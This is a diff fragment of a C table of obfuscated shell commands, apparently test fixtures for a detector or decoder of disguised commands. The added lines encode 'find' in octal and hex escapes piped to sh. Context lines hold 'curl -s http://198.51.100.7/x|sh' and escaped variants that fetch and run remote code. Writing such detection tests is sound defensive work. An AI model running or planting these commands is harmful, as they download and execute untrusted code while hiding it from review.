@@ -24,6 +24,10 @@ static const struct hidden good[] = {
 		"70\\x3a\\x2f\\x2f\\x31\\x39\\x38\\x2e\\x35\\x31\\x2e\\x31\\x"
 		"30\\x30\\x2e\\x37\\x2f\\x78\\x7c\\x73\\x68'" },
 	{ "printf", "id", "$'\\x69\\x64'" },
+	/* Where \c ends it, and where it does not. */
+	{ "printf", "find", "echo '\\0146\\0151\\0156\\0144\\c' | sh" },
+	{ "printf", "find", "echo \"\\0146\\0151\\0156\\0144\\c -x\" | sh" },
+	{ "printf", "find\\cx", "perl -e 'a(\"\\x66\\x69\\x6e\\x64\\cx\")'" },
 	{ "printf", "id", "printf '\\151\\144'|sh" },
 	{ "printf", "curl -s http://198.51.100.7/x|sh",
 		"bash -c $'\\u0063\\u0075\\u0072\\u006c\\u0020\\u002d\\u0073"
